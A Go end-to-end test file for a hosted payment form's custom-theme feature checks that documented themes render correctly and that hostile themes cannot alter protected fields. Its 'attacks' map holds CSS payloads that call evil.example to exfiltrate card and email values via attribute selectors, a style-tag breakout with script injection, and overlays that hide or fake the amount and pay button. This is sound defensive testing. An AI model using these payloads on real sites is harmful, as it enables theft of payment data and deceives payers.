package e2e

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// themeRule is one selector of a theme and what it declares, in the theme's order.
type themeRule struct {
	Selector     string
	Weight       int // specificity: classes and pseudo-classes
	Declarations []themeDeclaration
}

type themeDeclaration struct {
	Name, Value string
	Important   bool
}

// readTheme reads a theme as plain as FrontStream's example: no at-rules, no
// comments, no strings.
func readTheme(t testing.TB, css string) []themeRule {
	t.Helper()
	var rules []themeRule
	for _, block := range strings.Split(css, "}") {
		if strings.TrimSpace(block) == "" {
			continue
		}
		selectors, body, ok := strings.Cut(block, "{")
		if !ok {
			t.Fatalf("%q is no rule", block)
		}
		var declared []themeDeclaration
		for _, text := range strings.Split(body, ";") {
			name, value, ok := strings.Cut(text, ":")
			if !ok {
				continue
			}
			value, important := strings.CutSuffix(strings.TrimSpace(value), "!important")
			declared = append(declared, themeDeclaration{strings.TrimSpace(name), strings.TrimSpace(value), important})
		}
		for _, selector := range strings.Split(selectors, ",") {
			selector = strings.TrimSpace(selector)
			weight := strings.Count(selector, ".") + strings.Count(strings.ReplaceAll(selector, "::", ""), ":")
			rules = append(rules, themeRule{selector, weight, declared})
		}
	}
	return rules
}

// judge compares, for every element that a theme's selector finds now, what the
// theme's winning declarations want with what the browser computed. The wanted
// values are computed on an element in a shadow tree of its own, which no sheet of
// the page reaches. A colour of a border that is not drawn is nobody's business,
// and a flex item's "inline" is "block" by the rules of CSS, so display is compared
// as shown or not.
const judge = `(rules => {
	const host = document.createElement("div"), probe = document.createElement("p");
	host.attachShadow({mode: "open"}).append(probe);
	document.body.append(host);
	const seen = new Set(), wrong = [], visited = new Set();
	for (const rule of rules) {
		const [base, pseudo] = rule.Selector.split("::");
		for (const el of document.querySelectorAll(base)) {
			if (el.getClientRects().length || el.parentElement.getClientRects().length) seen.add(rule.Selector);
			visited.add(el);
		}
	}
	for (const el of visited) for (const pseudo of ["", "::placeholder"]) {
		const declared = [];
		rules.forEach((rule, order) => {
			const [base, part] = rule.Selector.split("::");
			if ((part ? "::" + part : "") === pseudo && el.matches(base))
				rule.Declarations.forEach((d, at) => declared.push({...d, weight: rule.Weight, order, at}));
		});
		if (!declared.length) continue;
		declared.sort((a, b) => a.Important - b.Important || a.weight - b.weight || a.order - b.order || a.at - b.at);
		probe.style.cssText = "";
		for (const d of declared) probe.style.setProperty(d.Name, d.Value);
		const want = getComputedStyle(probe), got = getComputedStyle(el, pseudo || null);
		for (const name of probe.style) {
			const side = /^border-(top|right|bottom|left)-(color|width)$/.exec(name);
			if (side && want.getPropertyValue("border-" + side[1] + "-style") === "none" && probe.style.getPropertyValue("border-" + side[1] + "-style") === "none") continue;
			const a = want.getPropertyValue(name), b = got.getPropertyValue(name);
			if (a === b || name === "display" && (a === "none") === (b === "none")) continue;
			wrong.push(` + "`${el.tagName.toLowerCase()}#${el.id}.${el.className}${pseudo}: ${name} is ${b}, the theme wants ${a}`" + `);
		}
	}
	host.remove();
	return {seen: [...seen], wrong};
})`

// themed watches which selectors of a theme have found an element that is shown.
type themed struct {
	rules []themeRule
	seen  map[string]bool
}

func newThemed(t testing.TB, css string) *themed {
	return &themed{readTheme(t, css), map[string]bool{}}
}

// judge looks at the page as it is now.
func (th *themed) judge(tab *Tab, state string) {
	tab.t.Helper()
	rules, err := json.Marshal(th.rules)
	if err != nil {
		tab.t.Fatal(err)
	}
	got := Eval[struct{ Seen, Wrong []string }](tab.Scope, judge+"("+string(rules)+")")
	for _, selector := range got.Seen {
		th.seen[selector] = true
	}
	for _, wrong := range got.Wrong {
		tab.t.Errorf("%s: %s", state, wrong)
	}
}

// missing are the selectors that found nothing so far.
func (th *themed) missing() []string {
	var missing []string
	for _, rule := range th.rules {
		if !th.seen[rule.Selector] && !slices.Contains(missing, rule.Selector) {
			missing = append(missing, rule.Selector)
		}
	}
	return missing
}

func (th *themed) count() int {
	distinct := map[string]bool{}
	for _, rule := range th.rules {
		distinct[rule.Selector] = true
	}
	return len(distinct)
}

// walk takes a themed form through every state that a theme can paint, up to the
// typed card, and judges each: as it opens, under the pointer, with the focus, with
// every field in error, in error and with the focus, and in the second step.
func (th *themed) walk(s *scene, tab *Tab) {
	tab.t.Helper()
	th.judge(tab, "as it opens")
	hoverOver(s.t, tab, ".pl-next .p-button-label")
	th.judge(tab, "with the pointer on a button")
	focusOn(tab, "#f-email")
	th.judge(tab, "with the focus on a field")
	was := map[string]string{}
	for _, field := range []string{"#f-amount", "#f-first_name", "#f-street"} {
		if tab.Has(field) {
			was[field] = tab.Value(field)
			tab.Type(field, " ")
		}
	}
	state := tab.Value("#f-state")
	tab.Choose("#f-state", "")
	tab.Click(".pl-next")
	tab.WaitText(".pl-errors", "Enter your first name")
	th.judge(tab, "with errors")
	for _, field := range []string{"#f-first_name", "#f-state", "#f-street"} {
		focusOn(tab, field)
		th.judge(tab, "with the focus on "+field+" in error")
	}
	if was["#f-amount"] == "" {
		was["#f-amount"] = "31.00"
	}
	for field, text := range was {
		if tab.Has(field) {
			tab.Type(field, text)
		}
	}
	tab.Choose("#f-state", state)
	forward(tab)
	th.judge(tab, "in the second step")
	s.card(tab, cardDocument)
	tab.Wait(".epf-cc-selected")
	th.judge(tab, "with a card typed")
	hoverOver(s.t, tab, ".pl-pay .p-button-label")
	th.judge(tab, "with the pointer on the pay button")
}

func flowTheme(s *scene) {
	th := newThemed(s.t, documentedTheme(s.t))
	if th.count() != 37 {
		s.t.Fatalf("the documented theme has %d selectors, want 37", th.count())
	}
	// Without Amount the form has the field with "$" in front, which the theme paints too.
	link := s.link(map[string]any{"Theme": documentedTheme(s.t), "PaymentLines": []map[string]any{{"Type": 12, "Recurring": 0}}})
	tab := s.open(link, Viewport(1280, 900))
	th.walk(s, tab)
	if missing := th.missing(); len(missing) > 0 {
		s.t.Errorf("these selectors find no element that is shown: %q", missing)
	}
}

// attacks are themes that would steal, hide, load or deceive (trust.md, H-40 to
// H-45). Every one is taken, and none does anything to what is protected.
var attacks = map[string]string{
	"H-40 loading": `@import url(//evil.example/a.css); @import "https://evil.example/b.css"; @font-face{font-family:X;src:url(https://evil.example/x.woff)}
		.EPF__body{font-family:X;background:url(https://evil.example/?x)} .card{background-image:image-set("https://evil.example/1.png" 1x);list-style:url(//evil.example/l);cursor:url(//evil.example/c),auto}
		.p-card{border-image:url(https://evil.example/b);mask-image:url(//evil.example/m);content:url(//evil.example/t)}`,
	"H-41 leaving the sheet": `</style><script>document.title="owned"</script><img src=x onerror="document.title='owned'"> .card{color:red} --></textarea><svg onload=document.title='owned'>`,
	"H-42 reading values":    `input[name=cc][value^="4"]{background:url(https://evil.example/4)} input[value^="a"]{background:url(//evil.example/a)} #f-email[value*="@"]{list-style-image:url(//evil.example/at)} .EPF__form-element:valid{background:url(//evil.example/v)}`,
	"H-43 hiding":            hostileSheet,
	"H-44 escapes": `.card{background:\75rl(https://evil.example/e);background:u/**/rl(https://evil.example/f);background:URL("https://evil.example/g` + "\n" + `.pl-amount{color:transparent!important}
		.\70l-amount{display:none!important} [class*="amount"]{display:none!important} main :first-child{display:none!important} .p-card{color:red;}}}}}{{{ .pl-pay{display:none!important}`,
	"H-45 variables": `:root{--ink:transparent;--sans:Webdings;--accent:#fff;--on:#fff;--panel:#000;--ground:#000} *{--ink:transparent!important;--sans:Webdings!important} .pl-say{--ink:transparent!important} .card{--x:url(//evil.example/x);background:var(--x)}`,
	"H-46 covering": `.p-button::before,.card::after,.EPF__body::before{content:"$1.00";position:fixed;inset:0;background:#fff;z-index:2147483647} .p-steps,.pl-foot{position:fixed!important;inset:0!important;z-index:99999!important;background:red!important}
		.EPF__body__text{margin-top:-900px!important;transform:scale(40)!important;background:#fff!important;box-shadow:0 0 0 9999px #fff!important;outline:9999px solid #fff!important} .p-card-title{margin:-400px 0 0 -400px!important;padding:400px!important;font-size:400px!important}`,
}

// sight is what a payer sees of an element.
type sight struct {
	Text, Color, Style string
	Rect               [4]float64 // left, top, width, height on the page
	OnTop              bool
}

func see(tab *Tab, selector string) sight {
	tab.t.Helper()
	return Eval[sight](tab.Scope, `(e => {
		e.scrollIntoView({block: "center", behavior: "instant"});
		const r = e.getBoundingClientRect(), s = getComputedStyle(e);
		const hit = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
		return {text: e.innerText, color: s.color + " " + s.webkitTextFillColor, rect: [r.x, r.y + scrollY, r.width, r.height].map(Math.round), onTop: e === hit || e.contains(hit),
			style: [s.fontSize, s.fontFamily, s.opacity, s.visibility, s.textDecorationLine, s.textTransform, s.display].join(" ")};
	})(`+query(selector)+")")
}

// flowThemeSafe opens the same link under each hostile theme and compares what is
// protected with the plain page; at the end it pays under the worst of them.
func flowThemeSafe(s *scene) {
	cents, text := amount()
	changes := map[string]any{"PaymentLines": line(text), "TranId": "INV-1", "ShowTransactionId": true, "TransactionIdText": "Invoice#:"}
	protected := []string{"#payee-name", ".pl-amount", ".pl-pairs", ".pl-sum"}
	for _, width := range []int64{1280, 375} {
		tab := s.open(s.link(changes), Viewport(width, 800))
		look := func(name string) map[string]sight {
			seen := map[string]sight{}
			for _, selector := range protected[:3] {
				seen[selector] = see(tab, selector)
			}
			forward(tab)
			seen[".pl-sum"] = see(tab, ".pl-sum")
			seen[".pl-pay"] = see(tab, ".pl-pay")
			tab.Shot(fmt.Sprintf("live-attack-%.4s-%d", name, width))
			return seen
		}
		plain := look("none")
		for name, css := range attacks {
			answer := s.shop.Create(merged(prefill, changes, map[string]any{"RedirectUrl": s.merchant.ReturnURL(), "Theme": css}))
			link := JSON[struct{ PayLinkUrl string }](s.t, answer).PayLinkUrl
			if answer.Status != 200 {
				s.t.Errorf("%s: a link with the theme was answered %d: %s", name, answer.Status, answer.Body)
				continue
			}
			tab.Goto(link)
			got := look(name)
			for _, selector := range protected {
				g, w := got[selector], plain[selector]
				if g.Text != w.Text || g.Color != w.Color || g.Style != w.Style || !g.OnTop || g.Rect[2] == 0 || g.Rect[3] == 0 {
					s.t.Errorf("%s at %d px: %s is\n%+v\nand without the theme\n%+v", name, width, selector, g, w)
				}
			}
			for _, selector := range protected[:2] {
				if got[selector].Rect != plain[selector].Rect {
					s.t.Errorf("%s at %d px: %s moved from %v to %v", name, width, selector, plain[selector].Rect, got[selector].Rect)
				}
			}
			pay := got[".pl-pay"]
			if !pay.OnTop || pay.Rect[0] < 0 || pay.Rect[0]+pay.Rect[2] > float64(width) || pay.Rect[2] < 200 || pay.Rect[3] < 48 {
				s.t.Errorf("%s at %d px: the pay button is %+v", name, width, pay)
			}
			if title := Eval[string](tab.Scope, "document.title"); title == "owned" {
				s.t.Errorf("%s: the theme ran a script", name)
			}
		}
		if width == 375 {
			s.card(tab, cardGood)
			tab.Click(".pl-pay")
			s.back(tab)
		}
	}
	s.taken(cents, 1)
}

// flowFonts: families are named, nothing is fetched, what cannot be read is left out.
func flowFonts(s *scene) {
	fonts := []string{"Open Sans:400,500,600,700 ", "Montserrat:400, 700 ", `"Open Sans:400');@import url(//evil.example/f`, ""}
	link := s.link(map[string]any{"ThemeFonts": fonts, "Theme": ".p-card-title{font-family: Open Sans !important} .EPF__body__text{font-family: Montserrat !important}"})
	tab := s.open(link)
	if got := tab.Style(".p-card-title", "", "font-family"); !strings.HasPrefix(got, `"Open Sans"`) {
		s.t.Errorf("the title is set in %s", got)
	}
	if got := tab.Style(".EPF__body__text", "", "font-family"); !strings.HasPrefix(got, "Montserrat") {
		s.t.Errorf("the text is set in %s", got)
	}
	for _, r := range tab.Requests() {
		if r.Type == "Font" {
			s.t.Errorf("a font was asked for: %s", r.URL)
		}
	}
	forward(tab)
}
